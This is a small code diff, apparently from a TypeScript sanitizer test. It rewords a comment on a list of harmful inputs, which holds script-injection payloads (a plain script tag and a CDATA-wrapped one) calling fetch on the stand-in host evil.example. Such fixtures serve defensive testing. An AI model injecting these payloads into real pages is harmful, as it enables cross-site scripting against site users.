@@ -18,7 +18,7 @@ const outlined = (content: string) => {
   return namedOutlines(root, frameOf(root))
 }
 
-/** What an attacker would have the server, or another reader's browser, do. */
+/** Attacks on the server, or on another user's browser. */
 const HARMFUL: Readonly<Record<string, string>> = {
   script: '<script>fetch("http://evil.example")</script>',
   'script in CDATA': '<script><![CDATA[fetch("http://evil.example")]]></script>',
